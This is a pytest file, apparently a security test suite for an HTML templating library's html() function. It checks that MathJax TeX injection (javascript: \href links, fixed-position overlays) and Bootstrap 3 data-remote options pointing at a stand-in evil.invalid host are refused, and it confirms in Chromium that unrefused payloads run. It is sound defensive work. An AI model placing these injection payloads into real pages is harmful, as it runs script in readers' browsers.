"""Seventh red-team pass over html(): what scripts of the page read in a value as markup.

1. MathJax.  The pages notebooks are published in run MathJax over their outputs: Jupyter
   Book (myst-nb) and nbsphinx configure MathJax 3 to process the class ``output_area``, Quarto
   runs it over the whole page.  MathJax reads the text of the page as TeX, and a TeX command
   between math delimiters becomes markup: ``$\\href{javascript:...}{x}$`` a link that runs
   its URL, ``\\style{position: fixed...}`` an overlay.  html() escaped such a value as text
   (correctly for the HTML parser), and the page's MathJax made a link of it that ran script
   in Chromium.  (JupyterLab's own MathJax filters commands through its SafeHandler; these
   pages' does not.)
2. Bootstrap 3 and 4's options.  Classic Notebook 6 and nbviewer load Bootstrap 3.4 with
   jQuery, whose data API takes a component's options from every data-* attribute of its
   trigger and of its target: a modal's ``data-remote`` is a URL whose page it loads into the
   modal, running its scripts.  html() accepted ``data-remote="{url}"``; in Chromium a click
   on the button ran the script of the page the value named.

The Chromium cases load the real libraries, from the npm packages ``mathjax@3``,
``jquery@3`` and ``bootstrap@3`` installed in the ``node_modules`` folder that
``IPY_ISTRING_NODE_MODULES`` names; without it they are skipped and say why.
"""

from __future__ import annotations

import contextlib
import os
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markupsafe import Markup, escape
from test_html import browser  # noqa: F401 (the module's Chromium, a fixture)

from ipy_istring.fields import RenderError
from ipy_istring.html import HtmlMarkup, html
from ipy_istring.template import Interpolation, InterpolationTemplate

PWN = "console.log(/ipy-pwned/.source)"
HREF = r"\href{javascript:" + PWN + r"}{\Huge\text{click}}"
OVERLAY = r"\style{position: fixed; top: 0; left: 0; width: 100vw; height: 100vh}{\text{x}}"


def result(source: str, *values: object) -> HtmlMarkup:
    """html() of ``source`` with each ``{}`` a field holding the next value."""
    parts: list[str | Interpolation] = []
    pieces = source.split("{}")
    assert len(pieces) == len(values) + 1
    for piece, value in zip(pieces, [*values, None]):
        parts.append(piece)
        if value is not None:
            parts.append(Interpolation(value, "v"))
    return html(InterpolationTemplate(*parts))


def render(source: str, *values: object) -> str:
    """:func:`result` as a plain ``str``."""
    return str(result(source, *values))


# --- refusals ---------------------------------------------------------------------------

REFUSED = [
    ("<p>{}</p>", ("$" + HREF + "$",)),
    ("<p>{}</p>", ("$$" + HREF + "$$",)),
    ("<p>{}</p>", (r"\(" + OVERLAY + r"\)",)),
    ("<p>{}</p>", (r"\[" + HREF + r"\]",)),
    ("<p>{}</p>", (r"\begin{equation}" + HREF + r"\end{equation}",)),
    ("{}", ("$" + HREF + "$",)),  # top-level text of the output
    ("<div><p>x</p>{}</div>", ("$" + HREF + "$",)),
    ("<table><tr><td>{}</td></tr></table>", ("$" + HREF + "$",)),
    ("<select><option>{}</option></select>", ("$" + HREF + "$",)),
    ("<ul><li><b>{}</b></li></ul>", ("$" + HREF + "$",)),
    ('<svg><text y="20">{}</text></svg>', ("$" + HREF + "$",)),
    ("<math><mi>{}</mi></math>", ("$" + HREF + "$",)),
    # The template's delimiters with the value's command, and the other way round.
    ("<p>$x = {}$</p>", (HREF,)),
    (r"<p>\(x = {}\)</p>", (HREF,)),
    (r"<p>$\href{{}}{x}$</p>", ("javascript:" + PWN,)),
    # Two fields, each harmless alone: MathJax reads the element's text as one string.
    ("<p>{} and {}</p>", ("$x", HREF + "$")),
    # ... across <br> and comments too, which MathJax reads through.
    ("<p>$<br>{}$</p>", (HREF,)),
    ("<p>${}<!-- c -->$</p>", (HREF,)),
    ("<p>{}<br>{}</p>", ("$", HREF + "$")),
    # MathJax skips <pre> and <code>, unless their class is one the page says to process
    # (Jupyter Book: "math", "output_area"): any class, static or a value's, counts as read.
    ('<code class="math">{}</code>', ("$" + HREF + "$",)),
    ('<pre class="x output_area"><b>{}</b></pre>', ("$" + HREF + "$",)),
    ('<code class="{}">{}</code>', ("mathjax_process", "$" + HREF + "$")),
]


@pytest.mark.parametrize(("source", "values"), REFUSED)
def test_a_tex_command_in_math_in_element_text_is_refused(
    source: str, values: tuple[str, ...]
) -> None:
    with pytest.raises(RenderError, match=r"TeX that MathJax typesets.*<code>\{x\}</code>"):
        render(source, *values)


def test_the_refusal_names_the_field_that_brings_the_command() -> None:
    with pytest.raises(RenderError, match=r"^html\(\): \{b\} would make the text"):
        html(
            InterpolationTemplate(
                "<p>$", Interpolation("1", "a"), " + ", Interpolation(HREF, "b"), "$</p>"
            )
        )


def test_a_trusted_value_counts_with_the_text_around_it() -> None:
    # The trusted value brings the delimiters, the plain one the command.
    with pytest.raises(RenderError, match="MathJax"):
        html(
            InterpolationTemplate(
                "<p>",
                Interpolation(Markup("$<!-- -->"), "m"),
                Interpolation(HREF + "$", "v"),
                "</p>",
            )
        )


def test_a_nested_template_is_judged_in_the_text_it_joins() -> None:
    inner = InterpolationTemplate("$x = ", Interpolation(HREF, "v"), "$")
    with pytest.raises(RenderError, match="MathJax"):
        html(InterpolationTemplate("<p>", Interpolation(inner, "inner"), "</p>"))


# --- look-alikes that stay accepted -------------------------------------------------------

ACCEPTED = [
    # A backslash or dollars alone make no markup: paths, regexes, prices, escapes.
    ("<p>{}</p>", r"C:\data\report.csv"),
    ("<p>{}</p>", r"E'\x41'"),
    ("<p>{}</p>", r"\d+ matches digits"),
    ("<p>{}</p>", "$5 and $10"),
    ("<p>{}</p>", "1 \\\\ 2 \\$ 3 $"),
    ("<p>{}</p>", "a\\"),
    ("<p>$x = {}$</p>", "1"),
    ("<p>{}</p>", "$x^2 + y_1$"),
    # MathJax skips <pre>, <code> and <textarea>, and never reads attributes.
    ("<code>{}</code>", "$" + HREF + "$"),
    ("<pre>{}</pre>", "$" + HREF + "$"),
    ("<pre><b>{}</b></pre>", "$" + HREF + "$"),
    ("<textarea>{}</textarea>", "$" + HREF + "$"),
    ("<title>{}</title>", "$" + HREF + "$"),
    ('<p title="{}">x</p>', "$" + HREF + "$"),
    ('<p data-tex="{}">x</p>', "$" + HREF + "$"),
    # A command in an element of its own, the delimiters outside it: separate strings.
    ("<p>$x$ <b>{}</b></p>", HREF),
]


@pytest.mark.parametrize(("source", "value"), ACCEPTED)
def test_look_alikes_stay_accepted(source: str, value: str) -> None:
    assert render(source, value) == source.replace("{}", str(escape(value)))


# --- real Chromium with the real MathJax 3, configured as Jupyter Book configures it ----------

MATHJAX_HOST = "https://mathjax.invalid"
# myst-nb's (and nbsphinx's) MathJax 3 configuration: $ delimiters, notebook outputs processed.
MATHJAX_CONFIG = (
    "<script>window.MathJax = {tex: {inlineMath: [['$', '$'], ['\\\\(', '\\\\)']], "
    "processEscapes: true}, options: {processHtmlClass: "
    "'tex2jax_process|mathjax_process|math|output_area'}};</script>"
    f'<script defer src="{MATHJAX_HOST}/tex-mml-chtml.js"></script>'
)
OVERLAY_JS = """() => Array.from(document.querySelectorAll('.output_area *'))
    .filter(e => getComputedStyle(e).position === 'fixed').length"""


def node_module(path: str) -> Path:
    """A file or folder of an npm package in IPY_ISTRING_NODE_MODULES, or skip the test."""
    folder = Path(os.environ.get("IPY_ISTRING_NODE_MODULES", ""))
    found = folder / path
    if not (folder.name and found.exists()):
        pytest.skip(
            f"IPY_ISTRING_NODE_MODULES does not hold {path} (npm install mathjax@3 jquery@3 "
            "bootstrap@3, and name their node_modules folder)"
        )
    return found


@pytest.fixture(scope="module")
def mathjax_page(browser: Any) -> Iterator[Any]:  # noqa: F811 (the fixture)
    """A browser context serving MathJax 3 from its folder (and nothing else)."""
    folder = node_module("mathjax/es5")

    def serve(route: Any) -> None:
        path = folder / urllib.parse.urlparse(route.request.url).path.lstrip("/")
        if path.resolve().is_relative_to(folder.resolve()) and path.is_file():
            route.fulfill(path=str(path))
        else:
            route.abort()

    context = browser.new_context()
    context.route("**/*", lambda route: route.abort())
    context.route(f"{MATHJAX_HOST}/**", serve)
    yield context
    context.close()


def visit(
    context: Any, head: str, body: str, clickable: str, *, typeset: bool = False
) -> list[str]:
    """Load ``body`` in a page with ``head``, click what ``clickable`` selects; what ran."""
    seen: list[str] = []
    tab = context.new_page()
    tab.on("console", lambda note: seen.append("script") if "ipy-pwned" in note.text else None)
    tab.set_content(
        f"<!doctype html><html><head>{head}</head><body>{body}</body></html>", wait_until="load"
    )
    if typeset:
        tab.evaluate("() => MathJax.startup.promise")
        if tab.evaluate(OVERLAY_JS):
            seen.append("overlay")
    for control in tab.locator(clickable).all():
        with contextlib.suppress(Exception):
            control.click(force=True, timeout=1500, no_wait_after=True)
    for _ in range(20):
        if seen:
            break
        tab.wait_for_timeout(50)
    tab.close()
    return seen


def visit_mathjax(context: Any, body: str) -> list[str]:
    """Load ``body`` as an output of a Jupyter Book page, typeset, click its links."""
    output = f'<div class="output_area">{body}</div>'
    return visit(context, MATHJAX_CONFIG, output, ".output_area a", typeset=True)


ATTACKS = [
    ("<p>{}</p>", "$" + HREF + "$"),
    ("<p>{}</p>", r"\(" + HREF + r"\)"),
    ("<p>{}</p>", "$" + OVERLAY + "$"),
    ("<p>$x = {}$</p>", HREF),
    ("<p>$<br>{}$</p>", HREF),
    ("<td>{}</td>", r"\begin{equation}" + HREF + r"\end{equation}"),
    ('<code class="math">{}</code>', "$" + HREF + "$"),
]


@pytest.mark.parametrize(("source", "value"), ATTACKS)
def test_mathjax_markup_from_a_value_is_refused(mathjax_page: Any, source: str, value: str) -> None:
    # Positive controls: the f-string mistake and markupsafe's escape (which html() gave
    # before this pass) both run the payload once MathJax has typeset the page.
    assert visit_mathjax(mathjax_page, source.replace("{}", value))
    assert visit_mathjax(mathjax_page, source.replace("{}", str(escape(value))))
    with pytest.raises(RenderError, match="MathJax"):
        render(source, value)


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("<code>{}</code>", "$" + HREF + "$"),
        ("<pre>{}</pre>", "$" + HREF + "$"),
        ('<p title="{}">x</p>', "$" + HREF + "$"),
        ("<p>$x$ <b>{}</b></p>", HREF),
        ("<p>{}</p>", r"C:\data\report.csv costs $5"),
    ],
)
def test_accepted_look_alikes_stay_inert_under_mathjax(
    mathjax_page: Any, source: str, value: str
) -> None:
    assert visit_mathjax(mathjax_page, render(source, value)) == []


# --- results joined: the end of one and the start of the next are one text to MathJax ---------
# (the fifteenth pass: each piece passed alone, and HtmlMarkup + HtmlMarkup, which a notebook
# shows as HTML, made a link that ran)

Join = tuple[str, Any]  # the page markupsafe's join gave (a plain str), and the join itself


def added(*pieces: Any) -> Join:
    """``pieces[0] + pieces[1] + ...``, as a loop's ``out += piece`` makes it."""

    def join() -> Any:
        out = pieces[0]
        for piece in pieces[1:]:
            out = out + piece
        return out

    return "".join(str(escape(piece)) for piece in pieces), join


def tags(*values: str) -> Join:
    """The red team's loop: a paragraph of tags, each rendered alone."""
    return added(result("<p>Tags: "), *(result("{} ", value) for value in values), result("</p>"))


JOINED_INTO_TEX = [
    lambda: tags("$" + HREF, "$"),
    lambda: added(result("<p>{}", "$" + HREF), "$</p>"),  # result + text
    lambda: added("$" + HREF, result("{}</p>", "$")),  # text + result
    # A character reference begun in one result and ended in the next: &#36; is a dollar.
    lambda: added(result("<p>{}&", "$" + HREF), result("{}</p>", "#36;")),
    lambda: (str(result("{}", "$" + HREF)) * 2, lambda: result("{}", "$" + HREF) * 2),
    lambda: (
        str(result("<p>{}", "$" + HREF)) + " " + str(result("{}</p>", "$")),
        lambda: result(" ").join([result("<p>{}", "$" + HREF), result("{}</p>", "$")]),
    ),
]


@pytest.mark.parametrize(
    "case",
    JOINED_INTO_TEX,
    ids=["loop of +=", "result + text", "text + result", "reference", "times", "join"],
)
def test_results_joined_into_mathjax_markup_are_refused(mathjax_page: Any, case: Any) -> None:
    page, join = case()
    # Positive control: the page markupsafe's join gave (before this pass) ran the payload.
    assert visit_mathjax(mathjax_page, page)
    with pytest.raises(RenderError, match=r"^html\(\): a result is joined .*MathJax typesets"):
        join()


JOINED_LOOK_ALIKES = [
    lambda: tags("alpha", "beta"),
    lambda: tags(r"C:\data\report.csv", "costs $5"),
    # The same values, each in an element of its own, or where MathJax reads nothing.
    lambda: added(result("<p>{}", "$" + HREF), result("</p><p>{}</p>", "$")),
    lambda: added(result("<code>{}", "$" + HREF), result("{}</code>", "$")),
    # Math the page's own author wrote (in the template, or trusted) stays as it was.
    lambda: added(result(r"<p>$\frac{a}{b}$</p>"), result("<p>{}</p>", "x")),
    lambda: added(result("<p>{}</p>", "x"), Markup(r"<p>$\sqrt{2}$</p>")),
]


@pytest.mark.parametrize(
    "case",
    JOINED_LOOK_ALIKES,
    ids=["tags", "path and price", "own elements", "code", "template's math", "trusted math"],
)
def test_joined_look_alikes_stay_accepted_and_inert(mathjax_page: Any, case: Any) -> None:
    page, join = case()
    joined = join()
    assert joined == page and type(joined) is HtmlMarkup
    assert visit_mathjax(mathjax_page, page) == []


def test_a_join_without_tex_material_is_not_parsed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """The check costs a parse of the joined page only where TeX may be: a command and math
    delimiters among its characters (a loop of += would parse the page each time).  Rows of
    prices are not parsed, nor rows of Windows paths (commands, no math); a paragraph with a
    path joined to the prices is."""
    from ipy_istring import _html_contexts

    first, last = result("<table>"), result("</table>")
    rows = [result("<tr><td>{}</td><td>{}</td></tr>", f"f{row}.csv", "$5") for row in range(50)]
    paths = [result("<tr><td>{}</td></tr>", rf"C:\Users\u{row}\f.csv") for row in range(50)]
    path = result("<p>{}</p>", r"C:\data\x.csv")
    parsed: list[str] = []
    parse = _html_contexts.parse
    monkeypatch.setattr(
        _html_contexts, "parse", lambda page, **kw: parsed.append(page) or parse(page, **kw)
    )
    for pieces in (rows, paths):
        out = first
        for row in pieces:
            out += row
        out += last
    assert parsed == []
    out = first
    for row in rows:
        out += row
    assert out + path  # parsed once, and accepted
    assert len(parsed) == 1


# --- Bootstrap 3 and 4: options read from data-* attributes --------------------------------

EVIL = "https://evil.invalid/page"
MODAL = (
    '<div class="modal" id="m"><div class="modal-dialog"><div class="modal-content">'
    "</div></div></div>"
)
BOOTSTRAP_REFUSED = [
    # A modal's remote page, loaded on a click, its scripts run: on the button, on the modal.
    '<button data-toggle="modal" data-target="#m" data-remote="{}">x</button>' + MODAL,
    '<button data-toggle="modal" data-target="#m">x</button>'
    '<div class="modal" id="m" data-remote="{}"><div class="modal-content"></div></div>',
    # Every data-* of a trigger is an option of its component.
    '<a data-toggle="popover" data-x="{}" title="t">x</a>',
    '<button data-toggle="modal" data-target="#m" data-backdrop="{}">x</button>' + MODAL,
    '<a data-spy="affix" data-offset-top="{}">x</a>',
    # Options that hold HTML or a selector, or switch the sanitizer off, wherever they stand.
    '<a data-content="{}" title="t">x</a>',
    '<a data-template="{}">x</a>',
    '<a data-html="{}">x</a>',
    '<a data-sanitize="{}">x</a>',
    '<a data-container="{}">x</a>',
    '<a data-viewport="{}">x</a>',
    '<a data-original-title="{}">x</a>',
]


@pytest.mark.parametrize("source", BOOTSTRAP_REFUSED)
def test_bootstrap_options_are_refused(source: str) -> None:
    with pytest.raises(RenderError, match=r"stands in the attribute 'data-.*Bootstrap 3 and 4"):
        render(source, EVIL)


@pytest.mark.parametrize(
    "source",
    [
        '<p data-x="{}">x</p>',
        '<div class="modal" id="m" data-note="{}"></div>',
        '<button data-toggle="modal" data-target="#m" title="{}">x</button>' + MODAL,
        '<p data-target="{}">x</p>',  # (no trigger: nothing reads it; a pass before kept it)
        '<p data-title="{}" data-remotes="{}" data-contents="{}">x</p>',
    ],
)
def test_data_attributes_off_bootstrap_stay_accepted(source: str) -> None:
    values = [EVIL] * source.count("{}")
    assert render(source, *values) == source.replace("{}", EVIL)


@pytest.fixture(scope="module")
def bootstrap_page(browser: Any) -> Iterator[Any]:  # noqa: F811 (the fixture)
    """A browser context serving jQuery 3 and Bootstrap 3.4 as classic Notebook 6 loads them,
    and an attacker's page (with CORS) whose script reports itself."""
    jquery = node_module("jquery/dist/jquery.js")
    bootstrap = node_module("bootstrap/dist/js/bootstrap.js")
    context = browser.new_context()
    context.route("**/*", lambda route: route.abort())
    context.route(f"{LIBRARIES}/jquery.js", lambda route: route.fulfill(path=str(jquery)))
    context.route(f"{LIBRARIES}/bootstrap.js", lambda route: route.fulfill(path=str(bootstrap)))
    context.route(
        f"{EVIL}*",
        lambda route: route.fulfill(
            body=f"<p>evil</p><script>{PWN}</script>",
            content_type="text/html",
            headers={"Access-Control-Allow-Origin": "*"},
        ),
    )
    yield context
    context.close()


LIBRARIES = "https://libraries.invalid"


def visit_bootstrap(context: Any, body: str) -> list[str]:
    """Load ``body`` in a page with jQuery and Bootstrap 3; click its buttons and links."""
    head = (
        f'<script src="{LIBRARIES}/jquery.js"></script>'
        f'<script src="{LIBRARIES}/bootstrap.js"></script>'
    )
    return visit(context, head, body, "button, a")


@pytest.mark.parametrize("source", BOOTSTRAP_REFUSED[:2])
def test_bootstrap_modal_remote_from_a_value_is_refused(bootstrap_page: Any, source: str) -> None:
    # Positive controls: the f-string mistake and markupsafe's escape (html()'s output before
    # this pass) run the attacker's page's script once the button is clicked.
    assert visit_bootstrap(bootstrap_page, source.replace("{}", EVIL))
    assert visit_bootstrap(bootstrap_page, source.replace("{}", str(escape(EVIL))))
    with pytest.raises(RenderError, match="Bootstrap 3 and 4"):
        render(source, EVIL)


def test_a_modal_with_its_remote_in_the_template_runs_no_value(bootstrap_page: Any) -> None:
    source = '<button data-toggle="modal" data-target="#m" title="{}">x</button>' + MODAL
    assert visit_bootstrap(bootstrap_page, render(source, EVIL)) == []
